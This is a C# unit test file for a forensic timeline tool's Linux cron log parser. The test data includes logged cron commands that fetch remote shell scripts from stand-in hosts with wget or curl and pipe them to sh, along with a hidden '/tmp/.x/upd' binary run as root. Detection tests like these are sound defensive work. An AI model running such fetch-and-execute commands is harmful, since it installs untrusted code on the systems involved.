using Timeline.Tests.Parsers.Linux.Syslog;
using Xunit;

namespace Timeline.Tests.Parsers.Linux.Cron;

public sealed class CronGrammarTests
{
    [Theory]
    [InlineData("CROND[23880]: (root) CMD (wget -q -O - http://203.0.113.9/d.sh | sh > /dev/null 2>&1)",
        "command=wget -q -O - http://203.0.113.9/d.sh | sh > /dev/null 2>&1|cron_user=root|event=cron_cmd")]
    [InlineData("CRON[4242]: (ubuntu) CMD ((curl -fsSL http://h.example/x.sh || wget -q -O- http://h.example/x.sh) | sh)",
        "command=(curl -fsSL http://h.example/x.sh || wget -q -O- http://h.example/x.sh) | sh|cron_user=ubuntu|event=cron_cmd")]
    [InlineData("/USR/SBIN/CRON[77]: (root) CMD (/tmp/.x/upd)", "command=/tmp/.x/upd|cron_user=root|event=cron_cmd")]
    [InlineData("cron[77]: (root) CMD (/tmp/.x/upd)", "command=/tmp/.x/upd|cron_user=root|event=cron_cmd")]
    [InlineData("crond[77]: (root) CMD (/tmp/.x/upd)", "command=/tmp/.x/upd|cron_user=root|event=cron_cmd")]
    [InlineData("CROND[23880]: (root) CMDEND (/tmp/.x/upd)", "command=/tmp/.x/upd|cron_user=root|event=cron_cmdend")]
    [InlineData("CROND[23880]: (root) CMDOUT (Saving to: 'x')", "command=Saving to: 'x'|cron_user=root|event=cron_cmdout")]
    [InlineData("crontab[2210]: (root) BEGIN EDIT (root)", "cron_target=root|cron_user=root|event=cron_begin_edit")]
    [InlineData("crontab[2210]: (root) REPLACE (bob)", "cron_target=bob|cron_user=root|event=cron_replace")]
    [InlineData("crontab[2210]: (root) END EDIT (root)", "cron_target=root|cron_user=root|event=cron_end_edit")]
    [InlineData("crontab[2211]: (root) LIST (root)", "cron_target=root|cron_user=root|event=cron_list")]
    [InlineData("crontab[2212]: (root) DELETE (root)", "cron_target=root|cron_user=root|event=cron_delete")]
    [InlineData("crond[1021]: (root) RELOAD (/var/spool/cron/root)", "cron_user=root|event=cron_reload|path=/var/spool/cron/root")]
    [InlineData("cron[812]: (root) RELOAD (crontabs/root)", "cron_user=root|event=cron_reload|path=crontabs/root")]
    [InlineData("crond[1021]: (*system*) RELOAD (/etc/crontab)", "cron_user=*system*|event=cron_reload|path=/etc/crontab")]
    [InlineData("cron[812]: (*system*zzh) RELOAD (/etc/cron.d/zzh)", "cron_user=*system*zzh|event=cron_reload|path=/etc/cron.d/zzh")]
    [InlineData("crond[1021]: (CRON) bad minute (/var/spool/cron/root)", "cron_user=CRON|event=cron_error|path=/var/spool/cron/root|reason=bad minute")]
    [InlineData("crond[1021]: (CRON) bad hour (/var/spool/cron/root)", "cron_user=CRON|event=cron_error|path=/var/spool/cron/root|reason=bad hour")]
    [InlineData("crond[1021]: (CRON) bad command (/etc/cron.d/x)", "cron_user=CRON|event=cron_error|path=/etc/cron.d/x|reason=bad command")]
    [InlineData("crond[1021]: (CRON) too many garbage characters (/etc/cron.d/x)", "cron_user=CRON|event=cron_error|path=/etc/cron.d/x|reason=too many garbage characters")]
    [InlineData("crond[1021]: (root) BAD FILE MODE (/var/spool/cron/root)", "cron_user=root|event=cron_error|path=/var/spool/cron/root|reason=BAD FILE MODE")]
    [InlineData("crond[1021]: (root) WRONG FILE OWNER (/var/spool/cron/root)", "cron_user=root|event=cron_error|path=/var/spool/cron/root|reason=WRONG FILE OWNER")]
    [InlineData("crond[1021]: (bob) ORPHAN (no passwd entry)", "cron_user=bob|event=cron_error|reason=ORPHAN: no passwd entry")]
    [InlineData("crond[1021]: (root) ERROR (Syntax error, this crontab file will be ignored)", "cron_user=root|event=cron_error|reason=ERROR: Syntax error, this crontab file will be ignored")]
    [InlineData("cron[655]: Error: bad username; while reading /etc/crontab", "event=cron_error|path=/etc/crontab|reason=bad username")]
    [InlineData("CRON[4243]: (CRON) info (No MTA installed, discarding output)", "cron_user=CRON|event=cron_info|reason=No MTA installed, discarding output")]
    [InlineData("crond[1021]: (CRON) STARTUP (1.5.7)", "cron_user=CRON|event=cron_info|reason=1.5.7")]
    [InlineData("crond[1021]: (root) SOMETHING NEW (x)", "cron_user=root|event=other")]
    [InlineData("cron[655]: Skipping @reboot jobs", "event=other")]
    public void CronMessageGivesItsFields(string tagAndMessage, string expected)
    {
        var e = SyslogLines.One("Mar  2 03:15:02 web01 " + tagAndMessage);
        Assert.Equal("linux/cron", e.Parser);
        Assert.Equal(expected, SyslogLines.Fields(e));
    }
}
